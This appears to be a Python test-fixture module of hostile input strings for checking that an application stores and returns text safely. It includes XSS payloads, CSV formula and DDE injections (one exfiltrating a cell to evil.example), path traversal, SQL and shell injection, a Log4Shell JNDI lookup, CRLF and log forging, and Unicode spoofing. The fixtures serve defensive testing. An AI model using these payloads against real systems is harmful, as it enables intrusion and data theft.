"""Strings made to hurt whoever takes them for something else than text.

Each is one a person might store in a name, a message or a label. It has to come back as it was or be refused;
and wherever it goes it has to stay text.
Source: OWASP WSTG-INPV; CWE-79, -89, -93, -117, -1236; UTS #39 and UTR #36 (bidi, invisible, look-alikes);
CVE-2021-42574 (Trojan source).
"""

from __future__ import annotations

from collections.abc import Mapping

PAGE: Mapping[str, str] = {
    "a script": "<script>alert(document.domain)</script>",
    "an image that fails": '"><img src=x onerror=alert(1)>',
    "an attribute": "' onmouseover='alert(1)' x='",
    "a drawing": "<svg/onload=alert(1)>",
    "an address that runs": "javascript:alert(1)//",
    "the end of a comment": "--><!--#exec cmd='id'-->",
    "the end of a script": "</script><script>alert(1)</script>",
    "entities": "&lt;b&gt; &amp;amp; &#60;",
}
TABLE: Mapping[str, str] = {
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "a command": "=cmd|' /C calc'!A0",
    "a plus": "+1+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a full-width formula": "\uff1dHYPERLINK(1)",
    "a formula behind a space": " =1+1",
    "quotes": 'a","=1+1","b',
    "separators": "a;b,c",
}
PATH: Mapping[str, str] = {
    "a way up": "../../../../etc/passwd",
    "another way up": "..\\..\\windows\\win.ini",
    "a device": "CON",
    "an address of a file": "file:///etc/passwd",
    "an encoded way up": "%2e%2e%2f%00",
}
COMMAND: Mapping[str, str] = {
    "SQL": "'; DROP TABLE users;--",
    "more SQL": '") OR 1=1 --',
    "a pattern": "%_%",
    "a search": '"a" NEAR(b) OR c* NOT : {d} ^e',
    "a template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "a format": "%s%n{0}{config}",
    "a shell": "$(id)`id`;id|id&",
    "a dialplan": "${SHELL(id)},1)&System(id)",
    "an AMI variable": 'x",Application="System",Data="id',
    "an AMI header": "Action: Originate",
    "an SMPP word": "id:1 sub:001 dlvrd:001 submit date:2601010000 done date:2601010000 stat:DELIVRD err:000",
    "JSON": '","admin":true,"x":"',
    "vCard": "N:a;b;c\\n\\;END:VCARD",
    "an RTF group": "{\\rtf1\\field}",
}
#: Written by whoever wants to be read as somebody else.
UNICODE: Mapping[str, str] = {
    "right to left": "invoice\u202efdp.exe",
    "isolates": "a\u2066\u2067\u2068b\u2069",
    "zero width": "pay\u200bpal\u200c.\u200dexample\ufeff",
    "a soft hyphen": "a\u00adb",
    "combining marks": "Z" + "\u0351\u036f\u0301" * 10,
    "decomposed": "Cafe\u0301 A\u030angstro\u0308m",
    "compatible": "\ufb01 \u212b \u2460 \uff21",
    "look-alikes": "\u0430\u0441m\u0435",
    "beyond the first plane": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U00020000 \U0010fffd",
    "tags": "a\U000e0041\U000e007f",
    "private use": "\ue000",
    "no characters": "a\ufffe\uffffb",
    "line ends of Unicode": "a\u2028b\u2029c\u0085d",
    "a byte order": "\ufeffa",
    "only invisible": "\u200b\u2060",
    "case": "\u0130I\u0131i\u00df\u1e9e",
}
CONTROL: Mapping[str, str] = {
    "a line": "a\r\nX-Evil: 1",
    "two lines": "a\n\n<script>",
    "a log line": 'a\n{"at":"2026-01-01","level":"info","event":"api.forged"}',
    "colours": "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "a cursor": "a\x1b[2K\rb\x08c",
    "tabs": "\t=1+1\ta",
    "NUL": "a\0b",
    "delete": "a\x7fb",
    "C1": "a\x9b31mb",
}
#: JSON can say it, UTF-8 cannot.
LONE_SURROGATES: Mapping[str, str] = {
    "a high one": "a\ud800b",
    "a low one": "a\udfffb",
    "the wrong order": "\udc00\ud800",
}

STRINGS: Mapping[str, str] = {**PAGE, **TABLE, **PATH, **COMMAND, **UNICODE, **CONTROL, **LONE_SURROGATES}
